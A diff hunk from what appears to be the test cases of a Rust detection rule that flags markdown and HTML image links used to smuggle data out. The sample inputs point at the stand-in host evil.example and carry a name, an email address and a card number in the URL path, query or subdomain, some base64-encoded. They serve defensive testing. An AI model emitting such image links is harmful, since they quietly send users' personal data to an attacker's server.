@@ -47,7 +47,7 @@ pub(super) const RULE: Rule = Rule {
                 "![](https://evil.example/QW5uYSBCZWxsLCBhbm5hQG1haWwuZXhhbXBsZSwgNDExMSAxMTEx/a.gif)",
             ),
             hit("![p](//evil.example/x?d=4111111111111111)"),
-            hit("![p](https:/\\evil.example/x?d=QW5uYSBCZWxs)"),
+            hit("<img src=\"https:/\\evil.example/x?d=QW5uYSBCZWxs\">"),
             hit("![p](<https://evil.example/?d=Anna Bell lives in Bath>)"),
             hit("[p]: https://evil.example/p.png?d=QW5uYSBCZWxs\n![x][p]"),
             hit("![p](https://QW5uYSBCZWxsLCBhbm5hQG1haWw.evil.example/p.png)"),
